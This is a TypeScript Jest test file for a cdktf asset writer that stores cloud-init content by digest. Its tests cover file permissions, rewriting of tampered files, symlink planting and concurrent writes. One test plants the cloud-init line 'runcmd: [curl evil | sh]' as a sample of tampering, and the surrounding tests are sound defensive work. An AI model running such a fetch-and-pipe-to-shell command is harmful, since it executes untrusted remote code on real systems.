import { spawn } from 'child_process';
import { createHash } from 'crypto';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { App, TerraformStack } from 'cdktf';
import { Construct } from 'constructs';
import { ASSETS_FOLDER, contentFile } from '../../src/targets/assets';

const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');

const folders: string[] = [];
afterAll(() => folders.forEach((f) => fs.rmSync(f, { recursive: true, force: true })));

/** A construct in an app whose output folder is a fresh temporary folder. */
function scopeIn(): { scope: Construct; outdir: string } {
  const outdir = fs.mkdtempSync(path.join(os.tmpdir(), 'assets-test-'));
  folders.push(outdir);
  const app = new App({ outdir, stackTraces: false });
  return { scope: new TerraformStack(app, 'stack'), outdir };
}

const mode = (p: string) => fs.statSync(p).mode % 0o1000;

describe('contentFile', () => {
  test('writes the content under the app\'s output folder, named by its digest, readable by its owner only', () => {
    // GIVEN an app with its own output folder
    const { scope, outdir } = scopeIn();
    const content = Buffer.from('#cloud-config\n{}');
    // WHEN a file is written
    const file = contentFile(scope, 'cidata.zip', content);
    // THEN it is <outdir>/.assets/<sha256>/cidata.zip, 0600 in 0700 folders
    expect(file).toBe(path.join(outdir, ASSETS_FOLDER, sha256(content), 'cidata.zip'));
    expect(fs.readFileSync(file)).toEqual(content);
    expect(mode(file)).toBe(0o600);
    expect(mode(path.dirname(file))).toBe(0o700);
    expect(mode(path.join(outdir, ASSETS_FOLDER))).toBe(0o700);
  });

  test('does not reuse a tampered file: it is written again with the content asked for', () => {
    // GIVEN a file written earlier, then changed by someone else and made world-readable
    const { scope } = scopeIn();
    const content = Buffer.from('user data');
    const file = contentFile(scope, 'cidata.zip', content);
    fs.writeFileSync(file, 'runcmd: [curl evil | sh]');
    fs.chmodSync(file, 0o644);
    // WHEN the same content is asked for again
    const again = contentFile(scope, 'cidata.zip', content);
    // THEN the same path holds the content asked for, 0600 again
    expect(again).toBe(file);
    expect(fs.readFileSync(again)).toEqual(content);
    expect(mode(again)).toBe(0o600);
  });

  test('does not follow a symbolic link planted in place of the file', () => {
    const { scope } = scopeIn();
    const content = Buffer.from('user data');
    const file = contentFile(scope, 'cidata.zip', content);
    const elsewhere = path.join(path.dirname(file), '..', 'elsewhere');
    fs.writeFileSync(elsewhere, content);
    fs.rmSync(file);
    fs.symlinkSync(elsewhere, file);
    contentFile(scope, 'cidata.zip', content);
    expect(fs.lstatSync(file).isSymbolicLink()).toBe(false);
    expect(fs.readFileSync(file)).toEqual(content);
  });

  test('reuses an intact file without writing it again', () => {
    const { scope } = scopeIn();
    const content = Buffer.from('user data');
    const file = contentFile(scope, 'cidata.zip', content);
    const inode = fs.statSync(file).ino;
    expect(contentFile(scope, 'cidata.zip', content)).toBe(file);
    expect(fs.statSync(file).ino).toBe(inode);
  });

  test('concurrent writers of one content never leave a torn or partial file', async () => {
    // GIVEN four processes that write the same 8 MiB content into one output folder at once
    const { outdir } = scopeIn();
    const size = 8 * 1024 * 1024;
    const expected = sha256(Buffer.alloc(size, 'cidata-'));
    const script = `
      const { App, TerraformStack } = require('cdktf');
      const { contentFile } = require(${JSON.stringify(path.resolve(__dirname, '../../src/targets/assets'))});
      const scope = new TerraformStack(new App({ outdir: process.argv[1], stackTraces: false }), 'stack');
      const start = Number(process.argv[2]);
      while (Date.now() < start) {}
      process.stdout.write(contentFile(scope, 'big.bin', Buffer.alloc(${size}, 'cidata-')));
    `;
    const start = Date.now() + 4000;
    const writers = [1, 2, 3, 4].map(() => new Promise<string>((resolve, reject) => {
      const child = spawn(process.execPath, ['-r', 'ts-node/register/transpile-only', '-e', script, outdir, String(start)], { cwd: path.resolve(__dirname, '../..') });
      let out = '';
      child.stdout.on('data', (d) => (out += d));
      child.stderr.on('data', (d) => (out += d));
      child.on('exit', (code) => (code === 0 ? resolve(out) : reject(new Error(out))));
    }));
    // WHEN the test reads the file while they write
    const target = path.join(outdir, ASSETS_FOLDER, expected, 'big.bin');
    const seen = new Set<string>();
    let done = false;
    const all = Promise.all(writers).finally(() => (done = true));
    while (!done) {
      if (fs.existsSync(target)) seen.add(sha256(fs.readFileSync(target)));
      await new Promise((r) => setTimeout(r, 5));
    }
    const paths = await all;
    // THEN every read saw the whole content, and no partial file is left behind
    expect(new Set(paths)).toEqual(new Set([target]));
    expect(seen.size).toBeGreaterThan(0);
    expect([...seen].every((d) => d === expected)).toBe(true);
    expect(sha256(fs.readFileSync(target))).toBe(expected);
    expect(fs.readdirSync(path.dirname(target))).toEqual(['big.bin']);
  }, 60000);
});
